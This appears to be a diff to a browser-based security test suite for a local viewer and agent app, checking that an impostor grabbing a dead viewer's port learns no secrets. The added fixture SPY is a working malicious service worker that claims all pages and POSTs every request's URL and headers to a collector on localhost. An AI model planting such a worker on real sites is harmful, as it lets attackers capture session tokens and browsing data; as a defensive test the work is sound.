@@ -88,6 +88,37 @@ def test_who_takes_over_a_viewers_port_learns_nothing_that_opens_anything(
     opened(page, viewer.url)
 
 
+SPY = """
+oninstall = () => skipWaiting();
+onactivate = (event) => event.waitUntil(clients.claim());
+onfetch = ({ request }) => {
+    const body = request.url + JSON.stringify([...request.headers]);
+    fetch("http://127.0.0.1:PORT/", { method: "POST", mode: "no-cors", body });
+};"""
+
+
+def test_a_worker_that_was_left_at_a_port_hears_no_request_after_the_restart(
+    viewer: Viewer, context: BrowserContext, tmp_path: Path
+) -> None:
+    """A service worker stays with its address, and comes between the page and the viewer that is back there."""
+    page, port = context.new_page(), viewer.port
+    opened(page, viewer.url)
+    with impostor(tmp_path) as collector:
+        viewer.kill()
+        script = 'navigator.serviceWorker.register("/worker.js")'
+        with impostor(tmp_path, port, page=script, worker=SPY.replace("PORT", str(collector.port))):
+            context.new_page().goto(page.url)
+            wait_until(lambda: page.evaluate("navigator.serviceWorker.controller !== null"))
+        viewer.start("--port", str(port))
+        page.wait_for_url(f"{viewer.address}**", timeout=TIMEOUT_MS)
+        wait_for_rest(page)
+        page.keyboard.press("o")
+        expect(page.get_by_role("button", name="ball.npy 16")).to_be_visible(timeout=TIMEOUT_MS)
+        assert "icon.svg" in collector.recorded  # Which the page asked for while the viewer was gone.
+        assert token_in(page) not in collector.recorded
+        assert doors_opened(collector.secrets, [viewer.address]) == []
+
+
 def test_who_takes_over_an_agents_port_learns_nothing_that_opens_anything(
     running: AgentProcess, scan: Path, context: BrowserContext, tmp_path: Path
 ) -> None:
@@ -144,7 +175,7 @@ def test_a_relay_to_the_next_agent_is_seen_through(
 def test_an_owners_page_goes_on_through_the_next_agent_at_the_same_port(
     scan: Path, browser: Browser, tmp_path: Path
 ) -> None:
-    """Where the port is chosen. The token is another afterwards."""
+    """Where the port is chosen. The page is at the new name afterwards."""
     context = browser.new_context()
     (tmp_path / "state").mkdir()
     chosen = AgentProcess(tmp_path / "state", PELLUCID_DEVICE="cpu")
@@ -155,12 +186,12 @@ def test_an_owners_page_goes_on_through_the_next_agent_at_the_same_port(
         chosen.until(id, "running")
         page = context.new_page()
         opened(page, chosen.link(id))
-        before = token_in(page)
         chosen.kill()
         see(page, "The viewer does not respond")
         chosen.start("--port", str(port))
         expect(page.get_by_text("The viewer does not respond")).to_have_count(0, timeout=TIMEOUT_MS)
-        wait_until(lambda: token_in(page) != before)
+        page.wait_for_url(f"{chosen.base}i/{id}/", timeout=TIMEOUT_MS)
+        wait_for_rest(page)
         page.reload()
         wait_for_rest(page)
         chosen.cancel(id)
